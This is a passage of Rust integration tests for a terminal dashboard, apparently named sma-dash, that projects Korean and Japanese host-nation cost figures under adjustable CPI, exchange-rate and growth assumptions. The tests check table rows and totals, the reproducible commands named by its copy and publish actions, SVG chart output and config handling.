    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
    let line = assumptions_line(&o);
    assert!(
        line.contains("japanese_cpi=0.5;") && line.contains("jpy_per_usd=120;"),
        "{line}"
    );
    assert!(line.contains("japan_custom_growth=2.5;"), "{line}");
}

/// A year Japan's record holds without an amount (FY2025, FY2026) and the projection
/// computes is one row of the Costs table, its projected one; so the table's totals run
/// over the years `project` totals (FY2024–35), not from the last gap (FY2026–35).
#[test]
fn japan_s_costs_table_has_one_row_a_year_and_project_s_totals() {
    let project = stdout(&sma_dash(&["project", "--host", "jp"]));
    let line = project
        .lines()
        .find(|l| l.starts_with("total FY2024–35 fy2022-plan"))
        .unwrap_or_else(|| panic!("{project}"));
    let total = line.split_whitespace().nth(3).expect("the total");
    let table = stdout(&sma_dash(&[
        "render", "--host", "jp", "--width", "120", "--height", "60", "--keys", "2tz",
    ]));
    assert!(
        table.contains(&format!("FY2024–35 {total}")),
        "{total}: {table}"
    );
    assert!(!table.contains("FY2026–35"), "{table}");
    for year in ["FY2025", "FY2026"] {
        let rows = table
            .lines()
            .filter(|l| l.contains(&format!("┃{year} ")))
            .count();
        assert_eq!(rows, 1, "{year}: {table}");
    }
}

/// The assumption changes the tests of `y`'s command make, for the hosts `hosts`
/// shows: each assumption moved a big step in turn, each rate with a year set apart,
/// and several together.
fn assumption_changes(
    app: &sma_dash::app::App,
    ids: &[sma_dash::econ::AssumptionId],
) -> Vec<(String, sma_dash::econ::Assumptions)> {
    use sma_dash::econ::spec;
    let start = app.inputs().assumptions.clone();
    let mut changes = Vec::new();
    for &id in ids {
        let mut a = start.clone();
        a.step(id, 1, true);
        changes.push((format!("{id:?} up"), a));
        if id.is_rate() {
            let s = spec(id);
            let flat = start.get(id);
            let text = format!(
                "{},2029={}",
                flat + s.big_step,
                flat + 2.0 * s.big_step + s.step
            );
            let mut a = start.clone();
            a.apply_text(id, &text, app.dataset_of(id))
                .unwrap_or_else(|e| panic!("{id:?} {text}: {e}"));
            changes.push((format!("{id:?} {text}"), a));
        }
    }
    let mut together = start.clone();
    for &id in ids {
        together.step(id, -1, false);
    }
    together.step(sma_dash::econ::AssumptionId::Horizon, 1, true);
    changes.push(("together".into(), together));
    changes
}

#[test]
fn y_names_a_command_that_prints_what_it_copies_whatever_assumption_changed() {
    use sma_dash::app::{Action, App, Pane, update};
    use sma_dash::econ::AssumptionId;
    use sma_dash::econ::compare::MeasureKind;
    let config = sma_dash::config::Config::defaults();
    let fresh = |host_presses: usize| {
        let hosts = sma_dash::data::Hosts::embedded().unwrap();
        let mut app = App::with_hosts(hosts, &config.start, config.keymap.clone(), |_| {});
        for _ in 0..host_presses {
            update(&mut app, Action::CycleHost);
        }
        app.clipboard_off = Some("no clipboard here".into());
        app
    };
    // What `y` copies, and the status line without a clipboard: run after.
    let mut named: Vec<(String, String, String)> = Vec::new();
    let mut copy = |app: &mut App, case: String| {
        let cited = app.cited().expect("something selected");
        let copied = app.citation(&cited).expect("a citation").text;
        update(app, Action::Copy);
        let status = app.status.clone().unwrap_or_default();
        named.push((case, status.clone(), copied));
        status
    };
    for (presses, host) in [(0, "kr"), (1, "jp"), (2, "all")] {
        let start = fresh(presses);
        let mut ids: Vec<AssumptionId> = AssumptionId::ALL.to_vec();
        match host {
            "jp" => ids = AssumptionId::JAPAN.to_vec(),
            "all" => ids.extend([
                AssumptionId::JapaneseCpi,
                AssumptionId::JpyPerUsd,
                AssumptionId::JapanCustomGrowth,
            ]),
            _ => {}
        }
        for (k, (change, a)) in assumption_changes(&start, &ids).into_iter().enumerate() {
            let mut app = start.clone();
            let case = format!("--host {host}, {change}");
            app.change(|i| i.assumptions = a);
            // A projected year's figure, nominal or (every other change) real, in
            // dollars; both hosts': a recorded year in real dollars of a base year past
            // the record, which US CPI-U reaches.
            update(&mut app, Action::Focus(Pane::Costs));
            if host == "all" {
                app.change(|i| {
                    i.measure = MeasureKind::RealUsd;
                    i.assumptions.base_year = i.assumptions.base_year.max(2030);
                });
                app.year = 2016;
            } else {
                if k % 2 == 1 {
                    app.change(|i| i.view.real = true);
                    update(&mut app, Action::ToggleCurrency);
                }
                // All changed together: the host's custom scenario pinned, which its
                // growth drives.
                if change == "together" {
                    let host = app.data.info.host;
                    let custom = *sma_dash::econ::ScenarioId::of_host(host).last().unwrap();
                    assert_eq!(custom.key(), "custom");
                    app.change(|i| i.scenario = custom);
                }
                app.year = 2030;
            }
            let status = copy(&mut app, case.clone());
            assert!(
                status.contains(&format!("--host {host}")) || host == "kr",
                "{status}"
            );
            // The totals of the scenario pinned, as the Assumptions pane shows them,
            // after a change of every assumption of the host and of the horizon.
            if change == "together" || change.starts_with("Horizon") {
                update(&mut app, Action::Focus(Pane::Assumptions));
                copy(&mut app, format!("{case}, totals"));
            }
        }
    }
    // Every assumption of each host, its rates with years set apart, and together.
    assert_eq!(
        named.len(),
        (7 + 4 + 1) + (6 + 3 + 1) + (10 + 6 + 1) + 3 * 2
    );
    // Each command run once, a few at a time: it prints what `y` copied.
    named.sort_by(|a, b| (&a.1, &a.2).cmp(&(&b.1, &b.2)));
    named.dedup_by(|a, b| (&a.1, &a.2) == (&b.1, &b.2));
    for chunk in named.chunks(4) {
        std::thread::scope(|s| {
            for (case, status, copied) in chunk {
                s.spawn(move || {
                    assert_eq!(
                        run_named_command(status),
                        format!("{copied}\n"),
                        "{case}: {status}"
                    );
                });
            }
        });
    }
}

#[test]
fn i_on_both_hosts_names_the_chart_hosts_command_with_the_real_dollars_assumptions() {
    use sma_dash::app::{Action, App, Pane, Reply, reply, update};
    use sma_dash::econ::compare::MeasureKind;
    let hosts = sma_dash::data::Hosts::embedded().unwrap();
    let config = sma_dash::config::Config::defaults();
    let mut app = App::with_hosts(hosts, &config.start, config.keymap, |_| {});
    update(&mut app, Action::CycleHost);
    update(&mut app, Action::CycleHost);
    update(&mut app, Action::Focus(Pane::Costs));
    // Real dollars of 2040, past the record: US CPI-U assumed reaches them.
    app.change(|i| {
        i.measure = MeasureKind::RealUsd;
        i.assumptions.horizon = 2040;
        i.assumptions.base_year = 2040;
        i.assumptions.us_cpi.flat = 4.5;
    });
    reply(
        &mut app,
        Reply::Published(Ok(("/tmp/h.svg".into(), "/tmp/h.png".into()))),
    );
    let status = app.status.clone().unwrap_or_default();
    let command = status.split('`').nth(1).unwrap_or_default();
    assert_eq!(
        command,
        "sma-dash chart hosts --measure real-dollars --us-cpi 4.5 --horizon 2040 --real 2040",
        "{status}"
    );
    // Run with a file to write: the image the dashboard's figure gives.
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("h.svg").display().to_string();
    let mut words: Vec<&str> = command.split_whitespace().skip(1).collect();
    words.extend(["--svg", path.as_str()]);
    let out = sma_dash(&words);
    assert!(out.status.success(), "{}", stderr(&out));
    let figure = app.figure(Pane::Costs).expect("the hosts' figure");
    let size = sma_dash::publish::Size::default();
    assert_eq!(
        std::fs::read_to_string(&path).unwrap(),
        sma_dash::publish::to_svg(&figure, size, sma_dash::publish::Theme::Light)
    );
}

#[test]
fn y_s_command_names_the_config_and_data_the_dashboard_started_with() {
    // The config sets Korean CPI: `cite` with the same config starts there, so only a
    // change made on the dashboard is named, and the config file with it.
    let (_dir, config) = config_file("[display]\nosc52 = false\n[assumptions]\nkorean_cpi = 3\n");
    let data = Path::new(env!("CARGO_MANIFEST_DIR")).join("assets");
    let data = data.display().to_string();
    for (keys, cpi) in [("2:2030<enter>y", None), ("4+2:2030<enter>y", Some("3.1"))] {
        let args = [
            "render", "--config", &config, "--data", &data, "--width", "250", "--keys", keys,
        ];
        let frame = stdout(&sma_dash(&args));
        let status = frame
            .lines()
            .find(|l| l.starts_with("not copied: "))
            .unwrap_or_else(|| panic!("{frame}"));
        let cpi = cpi.map(|c| format!(" --cpi {c}")).unwrap_or_default();
        assert!(
            status.contains(&format!(
                "`sma-dash cite --year 2030{cpi} --data {data} --config {config}`"
            )),
            "{status}"
        );
        let printed = run_named_command(status);
        let expected = format!("korean_cpi={}", if cpi.is_empty() { "3" } else { "3.1" });
        assert!(printed.contains(&expected), "{printed}");
    }
}
